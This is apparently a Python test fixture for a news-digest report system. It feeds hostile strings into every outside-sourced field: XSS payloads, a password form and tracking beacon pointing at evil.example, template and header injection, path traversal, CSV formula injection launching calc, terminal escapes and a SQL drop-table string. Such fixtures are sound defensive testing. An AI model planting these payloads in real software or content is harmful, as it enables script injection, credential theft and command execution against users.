"""What a stranger may write into a headline, an outlet's name, a credit, a notice, an address or a file's name."""

from __future__ import annotations

from dataclasses import replace

from storage.digest.digest_rows import DigestFacts, FeedTrouble, Passage
from tests.report.invented import act_item, plain_day, plain_week

HTML = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</td></tr></table><h1>All clear</h1>",
    "<style>*{display:none}</style>",
    "</style><script>alert(1)</script>",
    "<!--[if mso]><p>mso</p><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password>",
    "<img src=cid:times-daily-2026-11-20@wiretrail>",
    '" style="background:url(//evil.example/seen.gif)" x="',
    "&#60;b&#62;entities&amp;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<bdi dir=rtl>x</bdi><plaintext>",
)
TEMPLATES = (
    "{{ 7*7 }}{% raw %}",
    "{{ facts.__class__.__mro__ }}",
    "{0.__class__}{copies}{count}",
    "%(count)s %s %n",
    "${7*7}#{7*7}",
)
ADDRESSES = (
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "https://x.example/\r\nX-Injected: 1",
    "//evil.example/x",
    "../../etc/passwd",
)
HEADERS = (
    "line\r\nBcc: all@example.org",
    "line\nSubject: another\n\nbody",
    "\r\n\r\n<html>second body</html>",
    "=?utf-8?B?QmNjOiBhbGxAZXhhbXBsZS5vcmc=?=",
    "--===============boundary==\r\nContent-Type: text/html",
    "\r\n.\r\nMAIL FROM:<x@evil.example>",
    "pickups.csv\r\nContent-Disposition: inline",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "'=1+1",
    "＝1+1",
    "|calc",
    "%0A=1+1",
    '";=1+1;"',
)
TERMINALS = (
    "\x1b[31mred\x1b[0m \x07bell",
    "\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\link",
    "\x9b2J\x9b1;1Hcleared",
    "over\rwritten\x08\x08",
    "[bold red]markup[/bold red][link=http://evil.example]",
    "\u202egnorw eht yaw\u202c",
    "\u2066isolated\u2069 \ufeff",
    "line\u2028next\u2029next",
    "\ud800 lone surrogate",
    "\x00\x01\x02",
    "\U000e0041\U000e0042tags",
)
JSONS = ('"}], "copies": [{"x": "', "\\u003cscript\\u003e", "</script>\u2028", "'; drop table pickups; --")
HOSTILE = (*HTML, *TEMPLATES, *ADDRESSES, *HEADERS, *FORMULAS, *TERMINALS, *JSONS)


def everything_says(text: str, url: str = "https://x.example/1") -> DigestFacts:
    """A day on which every text that comes from outside is `text`."""
    day = plain_day(3)
    item = act_item(
        outlet=text, headline=text, story=text, story_headline=text, credit_text=text, notice=text, url=url, agency=text
    )
    passage = Passage(text, text, text)
    return replace(
        day,
        act_now=(item, replace(item, kinds=("wrong agency credited",))),
        copies=tuple(
            replace(c, headline=text, outlet=text, story=text, story_headline=text, credit_text=text, url=url, use=text)
            for c in day.copies
        ),
        top_stories=tuple(
            replace(s, headline=text, first_outlet=text, story=text, uses=((text, 2),)) for s in day.top_stories
        ),
        edits=tuple(
            replace(e, story_passage=passage, article_passage=passage, kind=text, outlets=(text,) * 5, url=url)
            for e in day.edits
        ),
        moves=tuple(replace(m, outlet=text) for m in day.moves),
        possible=tuple(
            replace(p, outlet=text, headline=text, story_headline=text, reasons=(text,), url=url) for p in day.possible
        ),
        closed=tuple(replace(n, story=text, story_headline=text, notice=text) for n in plain_week().closed),
        health=replace(day.health, run_errors=(text,), troubles=(FeedTrouble(text, url, "failed", text, 3),)),
    )
